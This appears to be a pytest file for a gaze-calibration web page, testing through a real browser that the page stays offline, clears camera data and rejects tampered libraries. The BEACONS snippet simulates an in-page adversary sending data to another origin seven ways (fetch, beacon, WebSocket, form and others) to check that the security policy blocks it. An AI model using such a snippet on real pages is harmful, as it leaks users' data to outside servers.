"""The page of `vergence web` in a real browser, with patches that stand in for a camera.

Slow: needs playwright (extra `browser`), Chromium, and the archive of onnxruntime-web in the cache.
"""

import io
import json
import math
import re
import shutil
import tarfile
import threading
import time
from contextlib import contextmanager
from dataclasses import replace
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest
from PIL import Image

from tests.cli.commands import ONE, run, vergence
from tests.data.face_networks import PORTRAIT, installed_networks
from tests.refusals import refuses
from vergence.adaptation import portable
from vergence.adaptation.adapted_run import open_source
from vergence.core.data import Samples
from vergence.data.io.generated_cache import cache_folder
from vergence.data.synthetic.eyes.eye_synthetic import EyeSynthetic
from vergence.errors import ConfigError
from vergence.live import static_page
from vergence.training.residual_kernel import DEFAULT

EYES = """
task       = { name = "gaze_angle" }
model      = { name = "small_eye", channels = [4, 4], hidden = 8 }
federation = { name = "eye_synthetic", people = 5, samples = 60, days = [3, 3], size = "9x15" }
method     = "fedavg"
local      = { optimizer = "adamw", epochs = 1, batch = 16, lr = 3e-3 }
run        = { rounds = 3, evaluate_every = 0, workers = 1 }
"""
ARCHIVE = cache_folder() / f"{static_page.RUNTIME}.tgz"
BYTES = " ".join(map(str, range(300_000))).encode()
CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
needs_runtime = pytest.mark.skipif(
    not ARCHIVE.is_file(), reason=f"no {ARCHIVE}: get it with `{static_page.GET}`"
)
WAYS = {"fetch", "image", "script", "frame", "beacon", "socket", "form"}
# Each way asks for a path of its own; what another origin's server notes is what was sent.
BEACONS = """
() => {
  const there = "THERE", attempts = {
    fetch: (address) => fetch(address, { mode: "no-cors" }).catch(() => {}),
    image: (address) => { new Image().src = address; },
    script: (address) => put("script", { src: address }),
    frame: (address) => put("iframe", { src: address }),
    beacon: (address) => navigator.sendBeacon(address, "eyes"),
    socket: (address) => new WebSocket(address.replace("http", "ws")),
    form: (address) => put("form", { action: address, target: "_blank" }).submit(),
  };
  const put = (name, values) =>
    document.body.appendChild(Object.assign(document.createElement(name), values));
  for (const [way, attempt] of Object.entries(attempts)) {
    try { attempt(there + way); } catch (error) { /* a policy may refuse by an exception, too */ }
  }
}
"""


class Quiet(SimpleHTTPRequestHandler):
    def log_message(self, *_):
        pass


class Listener(SimpleHTTPRequestHandler):
    """Somebody else's server, which notes what arrives."""

    arrived: ClassVar[list[str]] = []

    def do_GET(self):
        self.arrived.append(self.path)
        self.send_error(404)

    do_POST = do_GET

    def log_message(self, *_):
        pass


@contextmanager
def serving(handler):
    """Serve on a free port, and yield the address."""
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


def folder_of(site: Path):
    return partial(Quiet, directory=site)


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    return run(tmp_path_factory.mktemp("eyes"), EYES)


@pytest.fixture(scope="module")
def site(trained, tmp_path_factory):
    return written(trained, tmp_path_factory.mktemp("site"))


def written(trained: Path, folder: Path, *options: object) -> Path:
    """Write a page with patches of a sixth person in place of the camera.

    Its test is skipped where the face networks cannot be made.
    """
    installed_networks(cache_folder())
    sources = folder / "web"
    shutil.copytree(static_page.SOURCES, sources)
    parts = EyeSynthetic(people=6, samples=60, days=(3, 3), size="9x15").load().people["p05"]
    columns = Samples.concatenate([parts.train, parts.val, parts.test]).columns
    rows = [
        {
            "pixels": columns["image"][row].flatten().tolist(),
            **{name: columns[name][row].tolist() for name in ("pose", "gaze", "side")},
        }
        for row in range(len(columns["gaze"]))
    ]
    eyes = (Path(__file__).parent / "eyes_of_test.js").read_text()
    (sources / "eyes.js").write_text(eyes.replace("ROWS", json.dumps(rows)))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(static_page, "SOURCES", sources)
        said = vergence("web", trained, "--out", folder / "page", "--runtime", ARCHIVE, *options)
    assert said.code == 0, said.err
    return folder / "page"


@pytest.fixture(scope="module")
def launch():
    """Function from options to a browser."""
    playwright = pytest.importorskip("playwright.sync_api", reason="extra `browser`")
    if CHROMIUM is None:
        pytest.skip("no Chromium")
    with playwright.sync_playwright() as start:
        yield lambda *options: start.chromium.launch(
            executable_path=CHROMIUM, args=["--no-sandbox", *options]
        )


@pytest.fixture(scope="module")
def browser(launch):
    return launch()


@pytest.fixture
def tab():
    """Function from a browser and options to a tab.

    It is closed after the test, as a page with a camera keeps a processor busy. On a crowded
    machine a page takes longer than playwright waits by itself.
    """
    pages = []

    def opened(browser, **options):
        pages.append(browser.new_page(**options))
        pages[-1].set_default_timeout(200_000)
        return pages[-1]

    yield opened
    for page in pages:
        page.close()


def face_video(path: Path) -> Path:
    """Write a portrait that moves from side to side, as Chromium's fake camera takes it."""
    width, height, count = 640, 480, 30
    portrait = Image.open(PORTRAIT).resize((height, height))
    with path.open("wb") as file:
        file.write(b"YUV4MPEG2 W640 H480 F30:1 Ip A1:1 C420jpeg\n")
        for number in range(count):
            picture = Image.new("RGB", (width, height), "grey")
            picture.paste(portrait, (80 + round(20 * math.sin(2 * math.pi * number / count)), 0))
            light, *colours = picture.convert("YCbCr").split()
            half = [colour.resize((width // 2, height // 2)) for colour in colours]
            file.write(b"FRAME\n" + b"".join(part.tobytes() for part in (light, *half)))
    return path


def wait_for(page, word: str, seconds: float = 200, allowed: bool = False) -> None:
    """Wait for a title; the page's policy forbids what playwright waits with."""
    end = time.monotonic() + seconds
    while not page.title().startswith(word):
        assert allowed or not page.title().startswith("Error"), page.locator(
            "#status"
        ).text_content()
        assert time.monotonic() < end, page.title()
        page.wait_for_timeout(100)


def walk(page, address: str) -> tuple[dict, list[str]]:
    """Go through the steps; return the file that is downloaded and all requests after loading."""
    page.goto(address)
    wait_for(page, "Ready")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.fill("#width", "344")
    page.fill("#height", "194")
    page.fill("#distance", "80")
    page.click("#start")
    wait_for(page, "Camera on")
    page.click("#dots:not([disabled])")
    wait_for(page, "Your correction is computed")
    with page.expect_download() as started:
        page.click("#download")
    return json.loads(Path(started.value.path()).read_text()), asked


@pytest.mark.slow
@needs_runtime
def test_the_page_s_correction_is_python_s_and_no_request_follows(
    site, trained, browser, tmp_path, tab
):
    page = tab(browser, viewport={"width": 1280, "height": 800})
    with serving(folder_of(site)) as address:
        content, asked = walk(page, address)
        page.click("#live")
        page.locator("#ring").wait_for(state="visible")
        page.wait_for_timeout(2000)
        page.keyboard.press("Escape")
        page.locator("#stage").wait_for(state="hidden")
        assert [url for url in asked if not url.startswith("blob:")] == []
    licences = page.locator("footer a")
    assert [licences.get_attribute(name) for name in ("target", "rel")] == ["_blank", "noopener"]
    assert "the run's own people" in page.locator("#model").text_content()
    words = page.locator("#result").text_content()
    for way in ("shared model", content["way"]):
        assert f"{content['errors'][way]:.1f} degrees" in words
    assert "frames a second" in page.locator("#speed").text_content()
    page.click("#forget")
    wait_for(page, "Everything is forgotten")
    assert page.locator("#download").is_disabled()
    assert page.locator("#ways td").count() == 0
    file = tmp_path / "correction.json"
    file.write_text(json.dumps(content))
    said = vergence("adapt", trained, "--from", file, "--out", tmp_path / "me")
    assert said.code == 0, said.err
    about = json.loads((tmp_path / "me" / "provenance.json").read_text())["adapted"]
    assert about["way"] == content["way"]
    assert about["errors"] == pytest.approx(content["errors"], abs=1e-4)


@pytest.fixture(scope="module")
def camera_site(trained, tmp_path_factory):
    """The page as users get it."""
    installed_networks(cache_folder())
    out = tmp_path_factory.mktemp("camera") / "page"
    said = vergence("web", trained, "--out", out, "--runtime", ARCHIVE)
    assert said.code == 0, said.err
    return out


@pytest.mark.slow
@needs_runtime
def test_without_a_camera_the_page_says_what_to_do(camera_site, browser, tab):
    page = tab(browser)
    with serving(folder_of(camera_site)) as address:
        page.goto(address)
        wait_for(page, "Ready")
        page.fill("#width", "")
        page.click("#start")
        wait_for(page, "Error", allowed=True)
        status = page.locator("#status").text_content()
        assert "width of your screen in mm, a number from 40 to 3000" in status
        assert "height" not in status
        page.fill("#width", "344")
        page.fill("#distance", "6")
        page.click("#start")
        page.get_by_text("cm, a number from 20 to 300").wait_for()
        page.fill("#distance", "62.5")
        page.click("#start")
        page.get_by_text("try again").wait_for()
    assert "no camera" in page.locator("#status").text_content()
    assert page.locator("#dots").is_disabled()
    assert page.locator("#start").is_enabled()


@pytest.mark.slow
@needs_runtime
def test_a_face_before_the_camera_gives_a_correction(trained, camera_site, launch, tmp_path, tab):
    """The networks of the face run in the page, too; nothing is asked of any server meanwhile."""
    fake = f"--use-file-for-fake-video-capture={face_video(tmp_path / 'face.y4m')}"
    options = ("--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream", fake)
    page = tab(launch(*options), viewport={"width": 1280, "height": 800})
    with serving(folder_of(camera_site)) as address:
        content, asked = walk(page, address)
    assert [url for url in asked if not url.startswith("blob:")] == []
    # The portrait seems 41 cm away with the guessed lens; 80 cm were given.
    (distance,) = re.findall(r"distance of (\d+) cm", page.locator("#result").text_content())
    assert 78 <= int(distance) <= 84
    assert set(content["samples"]["target"]) == set(range(9))
    # A crowded machine may not take five pictures of both eyes at each dot.
    assert 18 <= len(content["samples"]["gaze"]) <= 90
    assert sum(content["samples"]["side"]) * 2 == len(content["samples"]["gaze"])
    file = tmp_path / "correction.json"
    file.write_text(json.dumps(content))
    said = vergence("adapt", trained, "--from", file, "--out", tmp_path / "me")
    assert said.code == 0, said.err


WATCH = """
const [open, make] = [navigator.mediaDevices.getUserMedia, document.createElement];
window.tracks = [];
window.canvases = [];
navigator.mediaDevices.getUserMedia = async function (...wanted) {
  const stream = await open.apply(this, wanted);
  window.tracks.push(...stream.getTracks());
  return stream;
};
document.createElement = function (...name) {
  const element = make.apply(this, name);
  if (element instanceof HTMLCanvasElement) window.canvases.push(element);
  return element;
};
"""


@pytest.mark.slow
@needs_runtime
@pytest.mark.parametrize("during", ["preview", "dots"])
def test_what_is_forgotten_is_gone(during, camera_site, launch, tmp_path, tab):
    """After two clicks on the camera's button, too, and while dots are shown."""
    fake = f"--use-file-for-fake-video-capture={face_video(tmp_path / 'face.y4m')}"
    options = ("--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream", fake)
    page = tab(launch(*options), viewport={"width": 1280, "height": 800})
    page.add_init_script(WATCH)
    with serving(folder_of(camera_site)) as address:
        page.goto(address)
        wait_for(page, "Ready")
        page.evaluate("start = document.getElementById('start'); start.click(); start.click()")
        page.locator("#dots:not([disabled])").wait_for()
        if during == "dots":
            page.click("#dots")
            page.locator("#stage").wait_for(state="visible")
        page.evaluate("document.getElementById('forget').click()")
        wait_for(page, "Everything is forgotten")
        page.wait_for_timeout(1500)
    assert page.evaluate("window.tracks.map((track) => track.readyState)") == ["ended"]
    widths = page.evaluate("window.canvases.map((canvas) => canvas.width)")
    assert widths
    assert set(widths) == {0}
    assert page.evaluate("document.getElementById('preview').width") == 0
    assert page.locator("#dots").is_disabled()
    assert page.locator("#start").is_enabled()


@pytest.mark.slow
@needs_runtime
def test_a_packed_page_works_when_it_is_opened_as_a_file(trained, browser, tmp_path, tab):
    folder = written(trained, tmp_path, "--packed")
    page = tab(browser, viewport={"width": 390, "height": 844})
    address = (folder / "index.html").as_uri()
    page.goto(address)
    megabytes = sum(file.stat().st_size for file in folder.iterdir()) / 1e6
    (shown,) = re.findall(r"Loading (\d+) MB", (folder / "index.html").read_text())
    assert int(shown) == pytest.approx(megabytes, abs=1)
    wait_for(page, "Ready")
    # Sizes of phones differ too much for a guess; both sides are asked for.
    assert [page.input_value(f"#{name}") for name in ("width", "height")] == ["", ""]
    page.click("#start")
    wait_for(page, "Error", allowed=True)
    for word in ("width", "height"):
        assert word in page.locator("#status").text_content()
    content, asked = walk(page, address)
    assert content["errors"].keys() == {"shared model", *portable.PORTABLE}
    assert [url for url in asked if not url.startswith("blob:")] == []
    assert page.evaluate("document.documentElement.scrollWidth") == 390


@pytest.mark.slow
@needs_runtime
@pytest.mark.parametrize("protected", [True, False])
def test_code_in_the_page_cannot_send_anything(site, browser, tmp_path, protected, tab):
    """An adversary inside the page tries each way to send; without the policy, they arrive."""
    copy = shutil.copytree(site, tmp_path / "copy")
    index = copy / "index.html"
    if not protected:
        head, _, rest = index.read_text().partition('<meta http-equiv="Content-Security-Policy"')
        index.write_text(head + rest.partition(">")[2])
    Listener.arrived.clear()
    page = tab(browser)
    with serving(folder_of(copy)) as address, serving(Listener) as there:
        page.goto(address)
        wait_for(page, "Ready")
        page.evaluate(BEACONS.replace("THERE", there))
        end = time.monotonic() + 10
        while not (seen := {path.strip("/?") for path in Listener.arrived}) >= WAYS:
            if time.monotonic() > end:
                break
            page.wait_for_timeout(100)
        page.close()
    # A browser that opens the form's address asks for the icon of that server, too.
    assert seen - {"favicon.ico"} == (set() if protected else WAYS)


def archive(path: Path, **files: bytes) -> Path:
    with tarfile.open(path, "w:gz") as made:
        for name, data in files.items():
            part = tarfile.TarInfo(f"package/dist/{name}")
            part.size = len(data)
            made.addfile(part, io.BytesIO(data))
    return path


def test_a_changed_library_is_refused(tmp_path):
    names = static_page.SERVED
    changed = archive(tmp_path / "changed.tgz", **dict.fromkeys(names, b"fetch('//x')"))
    with refuses("data", "changed.tgz", names[0], "SHA-256"):
        static_page.runtime_files(changed, names)
    with refuses("data", "fewer.tgz"):
        static_page.runtime_files(archive(tmp_path / "fewer.tgz"), names)
    (tmp_path / "text.tgz").write_text("no archive")
    with refuses("data", "text.tgz"):
        static_page.runtime_files(tmp_path / "text.tgz", names)
    whole = archive(tmp_path / "whole.tgz", **dict.fromkeys(names, BYTES)).read_bytes()
    for start in range(1000, len(whole) - 1000, len(whole) // 20):
        damaged = whole[:start] + b"\xff" * 100 + whole[start + 100 :]
        (tmp_path / "damaged.tgz").write_bytes(damaged)
        with refuses("data", "damaged.tgz"):
            static_page.runtime_files(tmp_path / "damaged.tgz", names)
    folder = tmp_path / "dist"
    folder.mkdir()
    with refuses("data", str(folder)):
        static_page.runtime_files(folder, names)
    (folder / names[0]).write_bytes(b"")
    (folder / names[1]).write_bytes(b"")
    with refuses("data", "SHA-256"):
        static_page.runtime_files(folder, names)


def test_without_npm_one_line_says_what_to_do(tmp_path, monkeypatch):
    monkeypatch.setenv("VERGENCE_CACHE", str(tmp_path))
    monkeypatch.setenv("PATH", str(tmp_path))
    with refuses("setting", static_page.GET, "--runtime", kind=ConfigError):
        static_page.runtime_files(None, static_page.SERVED)
    # A copy in the cache that was changed is no better than none.
    archive(tmp_path / f"{static_page.RUNTIME}.tgz", **dict.fromkeys(static_page.SERVED, b"x"))
    with refuses("setting", "--runtime", kind=ConfigError):
        static_page.runtime_files(None, static_page.SERVED)


def test_npm_that_fails_is_said_in_one_line(tmp_path, monkeypatch):
    monkeypatch.setenv("VERGENCE_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    npm = tmp_path / "npm"
    npm.write_text("#!/bin/sh\nexit 1\n")
    npm.chmod(0o700)
    with refuses("setting", "npm", "--runtime", kind=ConfigError):
        static_page.runtime_files(None, static_page.SERVED)


def test_runs_without_a_page_are_refused(trained, tmp_path):
    toy = run(tmp_path, ONE)
    vergence("web", toy, "--out", tmp_path / "page").complains(2, "gaze_angle")
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "notes.txt").write_text("mine")
    vergence("web", trained, "--out", tmp_path / "full").complains(2, "notes.txt")


def test_a_page_knows_whose_variances_it_has(trained):
    source = portable.portable_source(open_source(trained, None))
    assert static_page._about(source)["own_variances"]
    about = static_page._about(replace(source, fitted={}))
    assert not about["own_variances"]
    assert about["variances"] == DEFAULT.variances.tolist()


def test_modules_become_one_script():
    """No module keeps an import or an export, and each gives what the others ask for."""
    texts = {n: (static_page.SOURCES / f"{n}.js").read_text() for n in static_page.MODULES}
    texts["assets"] = (static_page.SOURCES / "packed_assets.js").read_text()
    script = static_page.bundled(texts)
    assert not re.search(r"^(import|export)\b", script, re.M)
    parts = dict(re.findall(r"^modules\.(\w+) = .*?^return \{ (.*?) \};", script, re.M | re.S))
    for names, module in re.findall(r"^const \{ (.*?) \} = modules\.(\w+);", script, re.M | re.S):
        assert {name.strip() for name in names.split(",")} <= set(parts[module].split(", "))
